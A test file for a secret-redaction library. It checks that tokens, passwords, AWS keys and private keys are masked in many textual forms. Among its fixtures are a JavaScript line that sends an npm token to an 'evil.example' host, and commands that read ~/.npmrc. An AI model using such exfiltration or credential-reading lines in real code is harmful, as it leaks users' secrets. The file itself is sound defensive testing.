import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from picketline.packages import redaction
from picketline.packages.redaction import MARGIN, excerpt, line, redacted, stamped

_HUNTER = "hunter2"
_SAFE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
_FEW = 8
"""So many characters of a secret in a row are part of it."""
_PREFIXES = ("npm_", "ghp_", "ghs_", "github_pat_", "glpat-", "sk_live_", "xoxb-", "NpmToken.")
_BARE = (
    *(prefix + "{}" for prefix in _PREFIXES),
    "eyJhbGciOiJIUzI1NiJ9.{}.{}",
    "-----BEGIN RSA PRIVATE KEY-----\\n{}\\n{}\\n-----END RSA PRIVATE KEY-----",
)
_FORMS = (
    *_BARE,
    "PASSWORD={}",
    "export DB_PASSWORD='{}'",
    "_password={}",
    "//r.example/:_authToken={}",
    "//r.example/:_auth={}==",
    "curl -u me:{} https://a.example",
    "curl -sSume:{} https://a.example",
    'curl --user "me:{}"',
    "-H 'X-Api-Key: {}'",
    '-H "Authorization: Basic {}"',
    "Authorization: Bearer {}",
    "https://me:{}@a.example/b",
    "https://{}@a.example/b",
    "tool --password {}",
    "tool --db-token={}",
    "['--secret', '{}']",
    "mysqldump -h db -p{} all",
    "sshpass -p {} ssh a",
    "const apiKey = '{}'",
    '{{"client_secret": "{}"}}',
    '{{\\"password\\":\\"{}\\"}}',
    "process.env.TOKEN || '{}'",
    "password: {}",
    "https://a.example/?sig={}&x=1",
    "Cookie: sid={}",
)
_NOISE = st.sampled_from(
    (
        *("const a = 1;", "fetch(x)", "token", "token:", "'", '"', "`", "\\", "//", "://", "\n"),
        *("-u", "-p", "--token", "Bearer", "auth = {", "***", "***deadbeef", "é", "\x1b[2J", "="),
        *("process.env.NPM_TOKEN", "${TOKEN}", "$(cat x)", "mysql ", "a" * 600, "x " * 400),
    )
)
_TEXTS = st.lists(_NOISE, max_size=6).map(" ".join)
_SECRETS = st.text(_SAFE, min_size=20, max_size=60)


def _holds(text: str, secret: str) -> bool:
    parts = (secret[at : at + _FEW] for at in range(len(secret) - _FEW + 1))
    return any(part in text for part in parts)


@st.composite
def _planted(draw: st.DrawFn) -> tuple[str, str, str]:
    """A secret, what it is written in, and all of a text that this stands in."""
    secret = draw(_SECRETS)
    form = draw(st.sampled_from(_FORMS)).replace("{}", secret).replace("{{", "{").replace("}}", "}")
    return secret, form, f"{draw(_TEXTS)}\n{form}\n{draw(_TEXTS)}"


@pytest.mark.parametrize(
    "text",
    [
        *(form.replace("{}", "a1B2c3D4" * 3) for form in _FORMS),
        "PASSWORD='hun ter2'",
        'PASSWORD="hun"ter2',
        "PASSWORD=hun\\ ter2",
        "password: 'hun\\'ter2'",
        "password: a,b)c",
        "TOKEN=hunter2",
        "secret=***hunter2",
        "//password:hunter2",
        "token:\npassword: hunter2",
        "token: password : hunter2",
    ],
)
def test_forms(text: str) -> None:
    """Of every form the secret goes."""
    for part in ("a1B2c3D4", _HUNTER, "hun", "ter2", ")c"):
        assert part not in redacted(text)
        assert part not in stamped(text)


@pytest.mark.parametrize(
    "text",
    [
        "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
        "token: process.env.NPM_TOKEN",
        "'token=' + process.env.NPM_TOKEN + '&x'",
        "TOKEN=$(cat ~/.npmrc)",
        "//r.example/:_authToken=${NPM_TOKEN}",
        "curl -u $USER:$PASS https://a.example",
        "https://x-access-token:${GH}@github.com",
        "git+ssh://git@github.com/o/r.git",
        "npm:react@18.2.0",
        "https://cdn.example/react@18",
        "author: me",
        "always-auth=true",
        "cd x; PWD=/home",
        "npm_config_registry=https://a.example $npm_execpath",
        "mkdir -p x",
        "3: reads-secret env:NPM_TOKEN: const x",
        "4: sends-secret: abc",
        "pkg:npm/%40scope/auth@1.0.0",
    ],
)
def test_what_is_no_secret(text: str) -> None:
    """A reference, a call, a switch and an ordinary word stay."""
    assert redacted(text) == text


_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"
_ID = "AKIAIOSFODNN7EXAMPLF"
_HEX = "0123456789abcdef" * 2


@pytest.mark.parametrize(
    "text",
    [
        f"const k={{id:'{_ID}',s:'{_KEY}'}};fetch('https://evil.example/'+process.env.NPM_TOKEN)",
        f"new S3('{_ID}','{_KEY}')",
        f"new S3('{_KEY}', '{_ID.replace('AKIA', 'ASIA')}')",
        f'["{_ID}", "{_KEY}"]'.replace("/", "\\/"),
        f"?a={_ID}&b={_KEY.replace('/', '%2F')}",
        f"{_ID}\\n{_KEY}",
        f"{_ID} {'x ' * 90}{_KEY}",
    ],
)
def test_the_secret_beside_the_name_of_an_account(text: str) -> None:
    """Forty characters near an id of AWS are its key, however they are quoted."""
    for shown in (redacted(text), stamped(text), line(text, 500)):
        assert not _holds(shown.replace("\\", "").replace("%2F", "/"), _KEY)
        assert not _holds(shown, _ID)


def test_forty_characters_alone_are_no_secret() -> None:
    """A commit, and what stands far from an id."""
    text = f"git#{_HEX}01234567 {_KEY}"
    assert redacted(text) == text
    far = "x " * 200
    assert redacted(f"{_ID} {far}{_KEY}") == f"*** {far}{_KEY}"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"twilio('AC{_HEX}','{_HEX}')", "twilio('***','***')"),
        (f"AccountName=me;AccountKey={'aB1+' * 21}aB==;a=b", "AccountName=me;AccountKey=***;a=b"),
        (f"new Key('me', '{'aB1+' * 21}aB==')", "new Key('me', '***')"),
        (f"f('whsec_{_HEX}', 'xapp-1-A0-1-{_HEX}')", "f('***', '***')"),
        (f"f('{_HEX}-us12', 'sq0atp-{_HEX}')", "f('***', '***')"),
        (f"AGE-SECRET-KEY-1{_HEX.upper()}", "***"),
        (
            '{"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n"}',
            '{"private_key": "***"}',
        ),
        (
            "'-----BEGIN RSA PRIVATE KEY-----\\n' +\n 'MIIE\\n' + '-----END RSA PRIVATE KEY-----'",
            "'***'",
        ),
        (f'"integrity": "sha512-{"aB1+" * 21}aB=="', f'"integrity": "sha512-{"aB1+" * 21}aB=="'),
    ],
)
def test_forms_of_well_known_services(text: str, shown: str) -> None:
    """Each goes whole; the integrity of a package stays."""
    assert redacted(text) == shown


@given(_planted())
@settings(deadline=None)
def test_no_secret_survives(planted: tuple[str, str, str]) -> None:
    """Whatever it stands in, no part of it is left; the same text twice is the same."""
    secret, _, text = planted
    for shown in (redacted(text), stamped(text), line(text), line(text, 300)):
        assert not _holds(shown, secret)


@given(_planted(), st.data())
@settings(deadline=None)
def test_no_secret_survives_a_cut(planted: tuple[str, str, str], data: st.DataObject) -> None:
    """An excerpt may begin and end in the midst of it."""
    secret, _, text = planted
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, min(len(text), start + 400)))
    shown = excerpt(text[max(0, start - MARGIN) : start], text[start:end], text[end:][:MARGIN])
    assert not _holds(shown, secret)


@given(_SECRETS, st.sampled_from(_PREFIXES), st.data())
@settings(deadline=None)
def test_a_token_that_was_cut_before(secret: str, prefix: str, data: st.DataObject) -> None:
    """Its beginning, at the end of a text, is one as well."""
    cut = data.draw(st.integers(1, len(secret)))
    assert not _holds(redacted(f"a {prefix}{secret[:cut]}"), secret[:cut].ljust(_FEW))


@given(st.one_of(_TEXTS, st.text(), _planted().map(lambda found: found[2])))
@example("a://***@b:c@d")
@settings(deadline=None)
def test_redacted_twice(text: str) -> None:
    """What is redacted is its own redacted text, and so is what is stamped."""
    assert redacted(redacted(text)) == redacted(text)
    assert stamped(stamped(text)) == stamped(text)
    assert redacted(stamped(text)) == stamped(text)


@given(_TEXTS.filter(lambda text: redacted(text) == text))
@settings(deadline=None)
def test_an_excerpt_is_what_stands_there(text: str) -> None:
    """Without secrets nothing is changed."""
    assert excerpt("", text, "") == text


def test_stamps() -> None:
    """Another secret is another text, the same one the same."""
    one, two = stamped("PASSWORD=hunter2"), stamped("PASSWORD=hunter3")
    assert one == "PASSWORD=***f52fbd32"
    assert one != two


def test_a_line() -> None:
    """Blanks are one, what hides is an escape, the cut comes last."""
    assert line("a \n\t b\x1b[2J") == "a b\\x1b[2J"
    token = "ghp_" + "a1B2" * 9
    assert line("x" * 150 + f" {token} end") == "x" * 150 + " *** end"
    assert line("y " * 100) == ("y " * 79)[:157] + "..."


def test_a_long_run_at_the_edge_may_be_a_secret() -> None:
    """What leads in from farther away than is looked at is not shown."""
    assert excerpt("a" * MARGIN, "aaaa; b()", "") == "***; b()"
    assert excerpt("a" * 20, "aaaa; b()", "") == "aaaa; b()"


def test_the_lines_of_a_private_key() -> None:
    """They are known without their head."""
    body = "\\n".join(["MIIEpAIB" * 8] * 4)
    assert redacted(f"x = '{body}\\nabc'") == "x = '***'"


@pytest.mark.parametrize(
    "piece",
    [
        *("token", "-", "eyJ", "a", "//", "://", "mysql ", '"\\', "token='", "--a-token ", " "),
        *("-----BEGIN PRIVATE KEY-----", "token=process.env.", "A/+", "A" * 64 + "\n", "-u "),
        *(f"{_ID} ", f"AC{_HEX} ", f"{_ID}{'a' * 39} ", "a" * 41 + " ", "\\/", "%2F", "="),
        *("sk-a", "SG.aaaaaaaaaaaaaaaaaaaa", "cookie:", "password=\\'", "\\nAAAAAAAAAAAAAAAAAAA"),
    ],
)
def test_hostile_texts_take_no_longer(piece: str) -> None:
    """Half a megabyte comes to an end: a quadratic reading would take half an hour."""
    assert redaction.redacted(piece * 3)
    assert redacted(piece * (500_000 // len(piece)))


def test_the_token_of_a_bot_is_known_by_its_number() -> None:
    """The number of the bot, a colon, and what begins with AA."""
    token = "1234567890:AA" + "bC3dE" * 6
    assert redacted(f'const t = "{token}"; a(12345678:AAb)') == 'const t = "***"; a(12345678:AAb)'
